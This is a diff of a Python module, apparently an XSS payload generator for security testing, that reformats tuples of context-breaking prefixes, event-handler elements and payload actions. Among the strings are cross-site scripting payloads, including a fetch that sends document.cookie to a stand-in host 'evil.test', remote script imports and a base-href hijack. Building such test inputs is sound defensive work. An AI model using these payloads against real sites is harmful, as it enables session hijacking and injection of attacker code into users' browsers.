@@ -15,7 +15,19 @@ from urllib.parse import quote
 
 MANY = 240
 # What breaks out of where a text may have been put.
-BEFORE = ("", '">', "'>", "`>", "</title>", "</script>", "</textarea>", "-->", "]]>", "*/", "</style>")
+BEFORE = (
+    "",
+    '">',
+    "'>",
+    "`>",
+    "</title>",
+    "</script>",
+    "</textarea>",
+    "-->",
+    "]]>",
+    "*/",
+    "</style>",
+)
 ELEMENTS = (
     "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x",
     "iframe src=x", "marquee", "object data=x", "select autofocus", "math", "a href=x", "style",
@@ -31,7 +43,12 @@ ALIVE = (
     "video src=x onerror", "body onload", "iframe onload", "style onload",
 )  # fmt: skip
 QUOTES = ("", '"', "'", "`")
-DEEDS = ("alert(1)", "top.alert`1`", "import(/\\/\\/evil.test/)", "fetch('//evil.test/'+document.cookie)")
+DEEDS = (
+    "alert(1)",
+    "top.alert`1`",
+    "import(/\\/\\/evil.test/)",
+    "fetch('//evil.test/'+document.cookie)",
+)
 WHOLE = (
     "<script>alert(1)</script>", "<script src=//evil.test/x.js></script>", "<scr<script>ipt>alert(1)",
     "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;url=//evil.test/'>",
